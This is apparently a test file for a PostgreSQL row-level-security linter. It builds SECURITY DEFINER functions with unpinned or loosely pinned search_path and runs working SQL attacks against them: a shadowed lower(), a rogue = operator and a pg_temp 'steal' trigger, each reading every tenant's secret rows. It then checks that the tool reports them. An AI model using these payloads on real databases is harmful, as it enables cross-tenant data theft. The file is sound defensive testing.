/**
 * Search-path shadowing: a SECURITY DEFINER function without a pinned `search_path` resolves
 * its unqualified names on the caller's path, and runs what it finds as its owner, whom row
 * level security does not bind. It need not touch a tenant table itself: the runtime role
 *  - with CREATE on a schema puts that schema before pg_catalog (`set search_path = public,
 *    pg_catalog`) and defines `lower(text)` there, which the definer function then calls; or,
 *    with the default path, an operator `=(varchar, varchar)`, an exact match that beats
 *    pg_catalog's `=(text, text)`;
 *  - with TEMP makes a temporary table named like the table the function updates (pg_temp is
 *    searched first for relations), with a trigger of its own, which fires as the owner;
 *  - the same through a pinned path that omits pg_temp (searched first), or lists a schema the
 *    runtime role may create in.
 * Each reads every tenant's rows. doctor reported the CREATE and TEMP privileges (warnings) but
 * not the functions that turn them into a read of every tenant.
 */
import { randomBytes } from 'node:crypto'
import type pg from 'pg'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { runDoctor } from '../src/doctor/index.js'
import { enableRls } from '../src/schema/rls-apply.js'
import { installSeal } from '../src/schema/rls-sealed.js'
import { grantRuntimeRole } from '../src/schema/roles.js'
import { installTenantTables } from '../src/tenants/index.js'
import { createTestDatabase, dropRoles, type TestDatabase } from './helpers/db.js'

const ROLE = `adv_path_${randomBytes(3).toString('hex')}`
let db: TestDatabase

beforeAll(async () => {
  db = await createTestDatabase('adv_doctor_path')
  await installTenantTables(db.pool, { idType: 'bigint' })
  await db.pool.query(`
    insert into tenants (id, slug, name) values (1, 'one', 'One'), (2, 'two', 'Two');
    create table accounts (tenant_id bigint not null references tenants (id), id bigint not null,
      name text not null, primary key (tenant_id, id));
    insert into accounts values (1, 1, 'one-secret'), (2, 1, 'two-secret');
    create table visits (n bigint not null);
    insert into visits values (0);`)
  // The sealed binding's two definer functions are installed (the plain binding is used).
  await installSeal(db.pool, { key: 'k'.repeat(40) })
  await enableRls(db.pool, [{ name: 'accounts' }])
  await grantRuntimeRole(db.pool, { role: ROLE })
  await db.pool.query(`
    create schema app;
    create function normalize_email(p text) returns text language sql security definer
      as 'select lower(p)';
    create function bump_visits() returns void language plpgsql security definer as $$
    begin
      update visits set n = n + 1;
    end $$;
    create function bump_visits_app_path() returns void language plpgsql security definer
      set search_path = public as $$
    begin
      update visits set n = n + 1;
    end $$;
    create function is_demo_code(p varchar) returns boolean language sql security definer
      as $$ select p = 'demo'::varchar $$;
    create function normalize_public_path(p text) returns text language sql security definer
      set search_path = public, pg_catalog, pg_temp as 'select lower(p)';
    -- hold: pinned with pg_temp last and no schema the runtime role may create in; a SQL-standard
    -- body (names bound when it was made); an invoker function
    create function normalize_pinned(p text) returns text language sql security definer
      set search_path = pg_catalog, pg_temp as 'select lower(p)';
    create function normalize_atomic(p text) returns text language sql security definer
      begin atomic select lower(p); end;
    create function normalize_invoker(p text) returns text language sql as 'select lower(p)';`)
  // Trigger functions: unpinned, fired only where the runtime role writes (or cascades) to.
  await db.pool.query(`
    create schema admin;
    create table admin.settings (k text primary key, v text);
    create function admin.norm() returns trigger language plpgsql security definer
      as $$ begin new.v := lower(new.v); return new; end $$;
    create trigger norm before insert on admin.settings for each row execute function admin.norm();
    create function count_visit() returns trigger language plpgsql security definer
      as $$ begin new.n := new.n + 1; return new; end $$;
    create trigger count_visit before update on visits for each row execute function count_visit();
    create table parents (id bigint primary key);
    create table admin.children (parent bigint references parents on delete cascade);
    insert into parents values (1); insert into admin.children values (1);
    create function admin.on_child_gone() returns trigger language plpgsql security definer
      as $$ begin return old; end $$;
    create trigger on_child_gone before delete on admin.children
      for each row execute function admin.on_child_gone();
    create function note_ddl() returns event_trigger language plpgsql security definer
      as $$ begin perform lower(tg_tag); end $$;
    create event trigger note_ddl on ddl_command_start execute function note_ddl();
    create function note_ddl_off() returns event_trigger language plpgsql security definer
      as $$ begin perform lower(tg_tag); end $$;
    create event trigger note_ddl_off on ddl_command_start execute function note_ddl_off();
    alter event trigger note_ddl_off disable;
    -- pinned to schemas that are not there: one by name, one the owner's ("$user")
    create function is_demo_ghost(p varchar) returns boolean language sql security definer
      set search_path = ghost, pg_temp as $$ select p = 'demo'::varchar $$;
    create function is_demo_user(p varchar) returns boolean language sql security definer
      set search_path = "$user", pg_temp as $$ select p = 'demo'::varchar $$;`)
  // The misconfigurations the attacks need (each a doctor warning of its own).
  await db.pool.query(`grant create on schema public to "${ROLE}";
    grant temporary on database "${db.name}" to "${ROLE}";
    grant select, update on visits to "${ROLE}";
    grant select, delete on parents to "${ROLE}"`)
}, 60_000)

afterAll(async () => {
  await db?.drop()
  await dropRoles([ROLE])
})

/** Runs `steps` as the runtime role bound to tenant 1 (plain binding), in one rolled-back transaction. */
async function asTenant1(steps: readonly string[]): Promise<unknown[]> {
  const c = await db.pool.connect()
  try {
    await c.query('begin')
    await c.query(`set local role "${ROLE}"`)
    await c.query("select set_config('rowtenancy.tenant_id', '1', true)")
    let rows: unknown[] = []
    for (const s of steps) {
      const result = (await c.query(s)) as unknown as pg.QueryResult | pg.QueryResult[]
      rows = (Array.isArray(result) ? result.at(-1)! : result).rows.map((r) => Object.values(r)[0])
    }
    return rows
  } finally {
    await c.query('rollback').catch(() => {})
    c.release()
  }
}

const SHADOW_LOWER = [
  'set local search_path = public, pg_catalog',
  `create function public.lower(t text) returns text language sql
     as $$ select string_agg(name, ',' order by name) from public.accounts $$`,
]
/** An operator the caller's path need not even reorder: an exact match beats pg_catalog's text = text. */
const SHADOW_EQUALS = [
  `create function public.leak_eq(a varchar, b varchar) returns boolean language plpgsql as $$
   begin
     raise exception 'leak: %', (select string_agg(name, ',' order by name) from public.accounts);
   end $$`,
  'create operator public.= (leftarg = varchar, rightarg = varchar, function = public.leak_eq)',
]
const SHADOW_VISITS = [
  'create temp table visits (n bigint); insert into pg_temp.visits values (0)',
  'create temp table loot (name text)',
  `create function pg_temp.steal() returns trigger language plpgsql as $$
   begin
     insert into pg_temp.loot select name from public.accounts;
     return new;
   end $$`,
  'create trigger steal before update on pg_temp.visits for each row execute function pg_temp.steal()',
]

it('each unpinned or loosely pinned definer function reads tenant 2 for the runtime role bound to tenant 1', async () => {
  const both = ['one-secret,two-secret']
  expect(await asTenant1([...SHADOW_LOWER, "select normalize_email('X')"])).toEqual(both)
  expect(await asTenant1([...SHADOW_LOWER, "select normalize_public_path('X')"])).toEqual(both)
  await expect(asTenant1([...SHADOW_EQUALS, "select is_demo_code('x')"])).rejects.toThrow(
    'leak: one-secret,two-secret',
  )
  const loot = 'select name from pg_temp.loot order by 1'
  expect(await asTenant1([...SHADOW_VISITS, 'select bump_visits()', loot])).toEqual([
    'one-secret',
    'two-secret',
  ])
  expect(await asTenant1([...SHADOW_VISITS, 'select bump_visits_app_path()', loot])).toEqual([
    'one-secret',
    'two-secret',
  ])
  // the shapes that hold: lower() from pg_catalog; the caller's own lower() under row level security
  for (const f of ['normalize_pinned', 'normalize_atomic'])
    expect(await asTenant1([...SHADOW_LOWER, `select ${f}('X')`])).toEqual(['x'])
  expect(await asTenant1([...SHADOW_LOWER, "select normalize_invoker('X')"])).toEqual([
    'one-secret',
  ])
})

it('doctor reports each, not the pinned ones nor the sealed binding (qualified names, no SET)', async () => {
  const report = await runDoctor(db.pool, { runtimeRole: ROLE })
  const found = report.findings.filter((f) => f.code === 'SECURITY_DEFINER_SEARCH_PATH')
  expect(found.map((f) => `${f.severity} ${f.object}`)).toEqual([
    'error admin.on_child_gone()',
    'error public.bump_visits_app_path()',
    'error public.bump_visits()',
    'error public.count_visit()',
    'error public.is_demo_code(p character varying)',
    'error public.normalize_email(p text)',
    'error public.normalize_public_path(p text)',
    'error public.note_ddl()',
  ])
  expect(found.find((f) => f.object === 'public.normalize_email(p text)')!.message).toMatch(
    /no pinned search_path/,
  )
  expect(found.find((f) => f.object === 'public.bump_visits_app_path()')!.message).toMatch(
    /pg_temp/,
  )
  expect(found.find((f) => f.object === 'public.normalize_public_path(p text)')!.message).toMatch(
    /public/,
  )
  expect(found[0]!.fix).toMatch(/set search_path = pg_catalog, pg_temp/)
  // The privileges the attacks used stay reported as before.
  const codes = report.findings.map((f) => `${f.code} ${f.object}`)
  expect(codes).toContain(`ROLE_CAN_CREATE_IN_SCHEMA role ${ROLE} -> schema public`)
  expect(codes).toContain(`ROLE_CAN_CREATE_TEMP role ${ROLE}`)
})

it('with neither CREATE nor TEMP the unpinned ones are a warning; a pinned path is then fine', async () => {
  await db.pool.query(`revoke create on schema public from "${ROLE}";
    revoke temporary on database "${db.name}" from "${ROLE}"`)
  try {
    const report = await runDoctor(db.pool, { runtimeRole: ROLE })
    const found = report.findings.filter((f) => f.code === 'SECURITY_DEFINER_SEARCH_PATH')
    expect(found.map((f) => `${f.severity} ${f.object}`)).toEqual([
      'warning admin.on_child_gone()',
      'warning public.bump_visits()',
      'warning public.count_visit()',
      'warning public.is_demo_code(p character varying)',
      'warning public.normalize_email(p text)',
      'warning public.note_ddl()',
    ])
  } finally {
    await db.pool.query(`grant create on schema public to "${ROLE}";
      grant temporary on database "${db.name}" to "${ROLE}"`)
  }
})

it('the sealed binding is recognized by its exact body: a changed one is reported', async () => {
  const { rows } = await db.pool.query(
    `select prosrc from pg_proc where proname = 'rowtenancy_sealed_tenant'`,
  )
  const body = rows[0].prosrc as string
  const changed = body.replace('return null;', 'return null; /* changed */')
  const fn = 'public.rowtenancy_sealed_tenant()'
  await db.pool.query(`create or replace function ${fn} returns pg_catalog.text
    language plpgsql stable security definer as $fn$${changed}$fn$`)
  try {
    const report = await runDoctor(db.pool, { runtimeRole: ROLE })
    expect(
      report.findings.filter((f) => f.code === 'SECURITY_DEFINER_SEARCH_PATH').map((f) => f.object),
    ).toContain('public.rowtenancy_sealed_tenant()')
  } finally {
    await db.pool.query(`create or replace function ${fn} returns pg_catalog.text
      language plpgsql stable security definer as $fn$${body}$fn$`)
  }
})

it('a trigger function counts only where the runtime role may fire it: a table it writes, a cascade, an enabled event trigger', async () => {
  const found = (await runDoctor(db.pool, { runtimeRole: ROLE })).findings
    .filter((f) => f.code === 'SECURITY_DEFINER_SEARCH_PATH')
    .map((f) => f.object)
  // no USAGE on schema admin, no privilege on admin.settings: it never runs for the runtime role
  await expect(asTenant1(["insert into admin.settings values ('k', 'V')"])).rejects.toThrow(
    /permission denied/,
  )
  expect(found).not.toContain('admin.norm()')
  expect(found).not.toContain('public.note_ddl_off()')
  // the runtime role fires the others: by writing, by a cascading delete, by any DDL at all
  expect(found).toEqual(
    expect.arrayContaining(['public.count_visit()', 'admin.on_child_gone()', 'public.note_ddl()']),
  )
  await asTenant1([
    'alter default privileges grant select on tables to public',
    'delete from parents',
  ])
  // without a runtime role every trigger function is reported, as before
  const all = (await runDoctor(db.pool)).findings
    .filter((f) => f.code === 'SECURITY_DEFINER_SEARCH_PATH')
    .map((f) => f.object)
  expect(all).toEqual(expect.arrayContaining(['admin.norm()', 'public.note_ddl_off()']))
})

it('a pinned path naming a schema not there yet is open when the runtime role may create schemas', async () => {
  const path = async () =>
    (await runDoctor(db.pool, { runtimeRole: ROLE })).findings
      .filter((f) => f.code === 'SECURITY_DEFINER_SEARCH_PATH')
      .map((f) => f.object)
  expect(await path()).not.toContain('public.is_demo_ghost(p character varying)')
  expect(await path()).not.toContain('public.is_demo_user(p character varying)')
  await db.pool.query(`grant create on database "${db.name}" to "${ROLE}"`)
  try {
    // the attack: the runtime role makes the schema and an exact-match operator in it
    const ghost = [
      'create schema ghost',
      ...SHADOW_EQUALS.map((s) => s.replaceAll('public.leak_eq', 'ghost.leak_eq')),
    ].map((s) => s.replace('create operator public.=', 'create operator ghost.='))
    await expect(asTenant1([...ghost, "select is_demo_ghost('x')"])).rejects.toThrow(
      'leak: one-secret,two-secret',
    )
    const found = await path()
    expect(found).toContain('public.is_demo_ghost(p character varying)')
    // "$user" is the owner (postgres) while the function runs: no such schema either
    expect(found).toContain('public.is_demo_user(p character varying)')
  } finally {
    await db.pool.query(`revoke create on database "${db.name}" from "${ROLE}"`)
  }
})
